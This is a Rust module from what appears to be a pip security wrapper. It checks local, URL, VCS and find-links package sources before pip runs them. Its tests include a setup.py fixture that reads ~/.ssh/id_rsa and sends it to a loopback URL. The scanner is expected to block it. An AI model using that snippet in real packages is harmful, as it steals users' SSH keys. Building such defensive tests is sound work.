//! What pip would take without any index, vetted by the wrapper before pip runs:
//! - local archives: read, judged, and pip is handed a private copy of the very bytes
//!   that were judged (nothing can change between check and install);
//! - local source folders (`./dir`, `-e ./dir`): judged in place (pip builds from them);
//! - direct archive URLs (`name @ https://…`, bare URLs): downloaded (size cap, the
//!   `#sha256=` fragment or `--hash` verified), judged, and pip is handed the local copy;
//! - VCS checkouts: cannot be analysed before pip clones and builds them, so they are
//!   refused unless unverified sources are allowed;
//! - find-links folders: every package file in them is judged; the allowed ones are
//!   copied into one private folder, which is the only find-links location pip gets.
//!   Remote find-links pages are refused unless unverified sources are allowed.

use crate::error::Hint;
use super::judge::Judge;
use crate::gate::Judged;
use super::outcome::{CheckedFile, FileSource, Refusal, RefusalKind, Unverified};
use super::requested::Bypass;
use crate::index::{FileEntry, IndexClient, redact};
use crate::policy::Action;
use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};

/// Largest local or downloaded archive the wrapper reads (as the proxy's default cap).
pub(crate) const MAX_FILE_BYTES: u64 = 512 * 1024 * 1024;

/// The result of vetting every bypass.
#[derive(Debug, Default)]
pub(crate) struct Vetted {
    /// Requirement token as written (path, or URL without fragment) → vetted local copy.
    pub substitutes: HashMap<String, PathBuf>,
    pub files: Vec<CheckedFile>,
    pub refused: Vec<Refusal>,
    pub unverified: Vec<Unverified>,
    /// Find-links locations pip may use (the vetted folder, allowed remote pages).
    pub find_links: Vec<String>,
    pub notes: Vec<String>,
}

/// Vets bypasses into folders under `work_dir`.
pub(crate) struct Vetter<'a> {
    pub judge: &'a Judge,
    /// For direct URL downloads; `None` when there is no way to fetch (then refused).
    pub client: Option<&'a IndexClient>,
    pub work_dir: &'a Path,
    pub allow_unverified: bool,
    pub out: Vetted,
    copies: usize,
}

fn filename_of(path: &Path) -> String {
    path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_else(|| path.display().to_string())
}

impl<'a> Vetter<'a> {
    pub(crate) fn new(judge: &'a Judge, client: Option<&'a IndexClient>, work_dir: &'a Path, allow_unverified: bool) -> Vetter<'a> {
        Vetter { judge, client, work_dir, allow_unverified, out: Vetted::default(), copies: 0 }
    }

    fn refuse(&mut self, kind: RefusalKind, subject: &str, origin: &str, reason: String, hint: &str) {
        self.out.refused.push(Refusal { kind, subject: redact(subject), origin: origin.to_string(), reason, hint: hint.to_string() });
    }

    fn unverifiable(&mut self, subject: &str, origin: &str, reason: &str, hint: &str) {
        if self.allow_unverified {
            self.out.unverified.push(Unverified { subject: redact(subject), origin: origin.to_string(), reason: reason.to_string() });
        } else {
            self.refuse(RefusalKind::Unverifiable, subject, origin, reason.to_string(), hint);
        }
    }

    /// Writes judged bytes to a private folder, keeping the file name pip parses.
    fn private_copy(&mut self, filename: &str, bytes: &[u8]) -> std::io::Result<PathBuf> {
        let dir = self.work_dir.join("vetted").join(self.copies.to_string());
        self.copies += 1;
        std::fs::create_dir_all(&dir)?;
        let path = dir.join(filename);
        std::fs::write(&path, bytes)?;
        Ok(path)
    }

    /// Records a judged file; returns whether it may be used.
    fn record(&mut self, source: FileSource, judged: Judged) -> bool {
        let allowed = judged.report.decision.verdict != Action::Block;
        let report = judged.report;
        self.out.files.push(CheckedFile { source, project: report.name.clone(), report, served: allowed, from_db: judged.from_db });
        allowed
    }

    pub(crate) fn vet(&mut self, bypass: &Bypass) {
        match bypass {
            Bypass::Local { token, path, editable, origin } => self.local(token, path, *editable, origin),
            Bypass::Url { token, hashes, origin } => self.url(token, hashes, origin),
            Bypass::Vcs { url, origin } => self.unverifiable(
                url,
                origin,
                "a VCS checkout is cloned and built by pip; its code cannot be checked before it runs",
                "install a released version from the index, or build a wheel yourself, `safe-pip scan` it and install that file; \
                 --allow-unverified lets it through unchecked",
            ),
        }
    }

    fn local(&mut self, token: &str, path: &Path, editable: bool, origin: &str) {
        let source = FileSource::Local { path: path.display().to_string() };
        if path.is_dir() {
            let judged = self.judge.folder(path);
            let reason = judged.report.decision.reason();
            if !self.record(source, judged) {
                self.refuse(RefusalKind::Blocked, token, origin, reason, "do not install this folder; `safe-pip scan` shows every alert");
            }
            return;
        }
        if editable {
            // pip refuses a non-folder editable itself; nothing to vet.
            return;
        }
        let bytes = match read_capped(path) {
            Ok(b) => b,
            Err(e) => {
                // pip will fail on it too; say why here rather than let it through.
                self.refuse(RefusalKind::Blocked, token, origin, format!("cannot read {}: {e}", path.display()), "check the path");
                return;
            }
        };
        let filename = filename_of(path);
        let judged = self.judge.bytes(&filename, &bytes, None);
        let reason = judged.report.decision.reason();
        if !self.record(source, judged) {
            self.refuse(RefusalKind::Blocked, token, origin, reason, "do not install this file; `safe-pip scan` shows every alert");
            return;
        }
        match self.private_copy(&filename, &bytes) {
            Ok(copy) => {
                self.out.substitutes.insert(token.to_string(), copy);
            }
            Err(e) => self.refuse(RefusalKind::Blocked, token, origin, format!("cannot keep a vetted copy: {e}"), "check $TMPDIR"),
        }
    }

    fn url(&mut self, token: &str, hashes: &[crate::lockfile::Hash], origin: &str) {
        let shown = redact(token);
        let Some(client) = self.client else {
            self.refuse(RefusalKind::Blocked, token, origin, "no HTTP client to fetch it".into(), "check the network settings");
            return;
        };
        let filename = token.rsplit('/').next().unwrap_or(token).to_string();
        let entry = FileEntry {
            filename: filename.clone(),
            url: token.to_string(),
            hashes: hashes.iter().map(|h| (h.algorithm.clone(), h.digest.clone())).collect::<BTreeMap<_, _>>(),
            requires_python: None,
            yanked: None,
            upload_time: None,
            size: None,
            core_metadata: None,
        };
        let downloaded = match client.download(&entry, MAX_FILE_BYTES) {
            Ok(d) => d,
            Err(e) => {
                self.refuse(RefusalKind::Blocked, token, origin, format!("cannot fetch it: {e}"), &e.hint());
                return;
            }
        };
        let judged = self.judge.bytes(&filename, &downloaded.bytes, Some(token));
        let reason = judged.report.decision.reason();
        if !self.record(FileSource::Url { url: shown }, judged) {
            self.refuse(RefusalKind::Blocked, token, origin, reason, "do not install it; `safe-pip vet` or `safe-pip scan` shows every alert");
            return;
        }
        match self.private_copy(&filename, &downloaded.bytes) {
            Ok(copy) => {
                self.out.substitutes.insert(token.to_string(), copy);
            }
            Err(e) => self.refuse(RefusalKind::Blocked, token, origin, format!("cannot keep a vetted copy: {e}"), "check $TMPDIR"),
        }
    }

    /// Vets every find-links location; allowed files end up in one private folder.
    pub(crate) fn find_links(&mut self, locations: &[(String, String)]) {
        if locations.is_empty() {
            return;
        }
        let dir = self.work_dir.join("find-links");
        if let Err(e) = std::fs::create_dir_all(&dir) {
            self.refuse(RefusalKind::Blocked, &dir.display().to_string(), "find-links", format!("cannot create it: {e}"), "check $TMPDIR");
            return;
        }
        self.out.find_links.push(dir.display().to_string());
        for (location, origin) in locations {
            let lower = location.to_ascii_lowercase();
            if lower.starts_with("http://") || lower.starts_with("https://") {
                self.unverifiable(
                    location,
                    origin,
                    "a remote --find-links page sends pip to files that bypass the index checks",
                    "use an index (the proxy checks every file), or download the files into a folder and use --find-links DIR; \
                     --allow-unverified lets it through unchecked",
                );
                if self.allow_unverified {
                    self.out.find_links.push(location.clone());
                }
                continue;
            }
            let path = PathBuf::from(lower.strip_prefix("file://").map(|_| &location[7..]).unwrap_or(location));
            if !path.exists() {
                self.out.notes.push(format!("find-links location {} does not exist (pip ignores it too)", path.display()));
                continue;
            }
            if !path.is_dir() {
                self.unverifiable(
                    location,
                    origin,
                    "a local --find-links HTML page links to files that bypass the index checks",
                    "use --find-links with a folder of package files instead",
                );
                continue;
            }
            self.find_links_folder(&path, &dir);
        }
    }

    fn find_links_folder(&mut self, folder: &Path, vetted_dir: &Path) {
        let mut entries: Vec<PathBuf> = match std::fs::read_dir(folder) {
            Ok(rd) => rd.filter_map(Result::ok).map(|e| e.path()).filter(|p| p.is_file() && crate::artifact::is_package_file(p)).collect(),
            Err(e) => {
                self.out.notes.push(format!("cannot list find-links folder {}: {e}", folder.display()));
                return;
            }
        };
        entries.sort();
        for path in entries {
            let filename = filename_of(&path);
            let source = FileSource::FindLinks { location: folder.display().to_string() };
            let bytes = match read_capped(&path) {
                Ok(b) => b,
                Err(e) => {
                    self.out.notes.push(format!("skipped {}: {e}", path.display()));
                    continue;
                }
            };
            let judged = self.judge.bytes(&filename, &bytes, None);
            if self.record(source, judged) {
                if let Err(e) = std::fs::write(vetted_dir.join(&filename), &bytes) {
                    self.out.notes.push(format!("cannot copy {filename} into the vetted find-links folder: {e}"));
                }
            }
        }
    }
}

fn read_capped(path: &Path) -> std::io::Result<Vec<u8>> {
    let size = std::fs::metadata(path)?.len();
    if size > MAX_FILE_BYTES {
        return Err(std::io::Error::other(format!("larger than the limit of {MAX_FILE_BYTES} bytes")));
    }
    std::fs::read(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::ScanOptions;

    fn sdist(dir: &Path, name: &str, setup: &str) -> PathBuf {
        let mut buf = Vec::new();
        {
            let gz = flate2::write::GzEncoder::new(&mut buf, flate2::Compression::fast());
            let mut tar = tar::Builder::new(gz);
            for (rel, text) in [("PKG-INFO", format!("Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")), ("setup.py", setup.to_string())] {
                let mut h = tar::Header::new_gnu();
                h.set_size(text.len() as u64);
                h.set_mode(0o644);
                h.set_cksum();
                tar.append_data(&mut h, format!("{name}-1.0/{rel}"), text.as_bytes()).unwrap();
            }
            tar.into_inner().unwrap().finish().unwrap();
        }
        let p = dir.join(format!("{name}-1.0.tar.gz"));
        std::fs::write(&p, buf).unwrap();
        p
    }

    const EVIL: &str = "import os, urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('http://127.0.0.1:9/x', data=open(os.path.expanduser('~/.ssh/id_rsa'),'rb').read())\nsetup(name='evil')\n";

    #[test]
    fn local_archives_are_copied_or_refused_and_vcs_needs_permission() {
        let tmp = tempfile::tempdir().unwrap();
        let good = sdist(tmp.path(), "good", "from setuptools import setup\nsetup(name='good')\n");
        let bad = sdist(tmp.path(), "bad", EVIL);
        let judge = Judge::new(std::sync::Arc::new(crate::gate::Gate::without_db(ScanOptions::default())));
        let work = tmp.path().join("work");
        let mut v = Vetter::new(&judge, None, &work, false);
        let local = |p: &Path| Bypass::Local { token: p.display().to_string(), path: p.to_path_buf(), editable: false, origin: "command line".into() };
        v.vet(&local(&good));
        v.vet(&local(&bad));
        v.vet(&Bypass::Vcs { url: "git+https://h/r.git".into(), origin: "command line".into() });
        let copy = &v.out.substitutes[&good.display().to_string()];
        assert_eq!(std::fs::read(copy).unwrap(), std::fs::read(&good).unwrap());
        assert!(!v.out.substitutes.contains_key(&bad.display().to_string()));
        let kinds: Vec<RefusalKind> = v.out.refused.iter().map(|r| r.kind).collect();
        assert_eq!(kinds, vec![RefusalKind::Blocked, RefusalKind::Unverifiable]);
        assert_eq!(v.out.files.len(), 2);

        let mut v = Vetter::new(&judge, None, &work, true);
        v.vet(&Bypass::Vcs { url: "git+https://h/r.git".into(), origin: "command line".into() });
        assert!(v.out.refused.is_empty());
        assert_eq!(v.out.unverified.len(), 1);
    }

    #[test]
    fn find_links_folders_keep_only_allowed_files() {
        let tmp = tempfile::tempdir().unwrap();
        let links = tmp.path().join("links");
        std::fs::create_dir_all(&links).unwrap();
        sdist(&links, "good", "from setuptools import setup\nsetup(name='good')\n");
        sdist(&links, "bad", EVIL);
        std::fs::write(links.join("notes.txt"), "not a package").unwrap();
        let judge = Judge::new(std::sync::Arc::new(crate::gate::Gate::without_db(ScanOptions::default())));
        let work = tmp.path().join("work");
        let mut v = Vetter::new(&judge, None, &work, false);
        v.find_links(&[
            (links.display().to_string(), "PIP_FIND_LINKS".into()),
            (tmp.path().join("missing").display().to_string(), "config".into()),
            ("https://host/links/".into(), "command line".into()),
        ]);
        let vetted = PathBuf::from(&v.out.find_links[0]);
        let mut names: Vec<String> = std::fs::read_dir(&vetted).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
        names.sort();
        assert_eq!(names, vec!["good-1.0.tar.gz"]);
        assert_eq!(v.out.files.iter().filter(|f| f.blocked()).count(), 1);
        assert_eq!(v.out.notes.len(), 1);
        assert_eq!(v.out.refused.len(), 1);
        assert_eq!(v.out.refused[0].kind, RefusalKind::Unverifiable);
    }
}
